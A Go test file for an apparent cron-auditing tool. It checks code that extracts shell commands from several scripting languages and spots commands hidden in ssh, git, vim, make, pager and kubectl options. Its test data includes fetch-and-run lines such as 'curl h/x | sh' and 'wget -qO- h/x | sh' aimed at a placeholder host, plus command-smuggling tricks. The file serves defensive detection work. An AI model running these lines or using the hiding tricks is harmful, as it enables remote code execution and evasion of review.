package cron

import (
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestShellTexts(t *testing.T) {
	for _, c := range []struct {
		lang, code string
		want       []string
	}{
		{"perl", `system("wget -qO- h/x | sh")`, []string{"wget -qO- h/x | sh"}},
		{"python", `import os;os.system('id "x"')`, []string{`id "x"`}},
		{"python", `exec("print(1)")`, nil},
		{"python", `subprocess.run(["/opt/a b", "-x"])`, []string{`'/opt/a b' '-x'`}},
		{"python", `subprocess.run(cmd)`, nil},
		{"php", `passthru('id'); shell_exec("ls");`, []string{"id", "ls"}},
		{"ruby", "`id`", []string{"id"}},
		{"ruby", "puts 1", nil},
		{"node", `require("child_process").execSync("id\\n")`, []string{`id\n`}},
		{"python", `os.execl("/bin/sh","sh","-c","id|x")`, []string{`'/bin/sh' '-c' 'id|x'`}},
		{"expect", `spawn sh -c "id"; expect eof`, []string{`sh -c "id"`}},
		{"perl", `my $filesystem("x")`, nil},
		{"perl", `system("never closed`, nil},
		{"perl", "system(", nil},
		{"awk", `BEGIN{system("id")}`, []string{"id"}},
	} {
		t.Run(c.lang+" "+c.code, func(t *testing.T) {
			if d := cmp.Diff(c.want, shellTexts(c.lang, c.code)); d != "" {
				t.Error(d)
			}
		})
	}
}

// Commands that stand where nobody looks for one are found, and what only looks
// like one is not.
func TestHiddenCommands(t *testing.T) {
	for _, c := range []struct {
		line string
		want string // a command's name
		none bool
	}{
		{line: `ssh -o ProxyCommand='sh -c "curl h/x | sh"' h`, want: "curl"},
		{line: `git -c core.pager='curl h/x | sh' -p log`, want: "curl"},
		{line: `vim -c ':!curl h/x | sh' -c :q`, want: "curl"},
		{line: "make -s --eval='$(shell curl h/x)'", want: "curl"},
		{line: `PAGER='curl h/x' psql`, want: "curl"},
		{line: `cronwrap one bash -c 'curl h/x'`, want: "curl"},
		{line: `/opt/copy-of-sh -c 'curl h/x | sh'`, want: "curl"},
		{line: `kubectl run x --image=alpine -- curl h/x`, want: "curl"},
		{line: `rsync -e 'ssh -p 22' a b:`, want: "ssh", none: true},
		{line: `mail -s 'a; b | curl' me`, want: "curl", none: true},
		{line: `/opt/task -c '/etc/x.conf; curl h/x'`, want: "curl", none: true},
		{line: `ssh -o ProxyCommand='ssh -W %h:%p jump' h curl`, want: "nc", none: true},
		{line: `/opt/task -c 'curl h/x'`, want: "curl", none: true},
	} {
		t.Run(c.line, func(t *testing.T) {
			a := Resolve(c.line, ResolveEnv{Home: "/home/u"}, Debian)
			found := slices.ContainsFunc(a.Commands, func(k Command) bool { return k.Name == c.want })
			if found == c.none {
				t.Errorf("%s found: %v; %+v", c.want, found, a.Commands)
			}
		})
	}
}
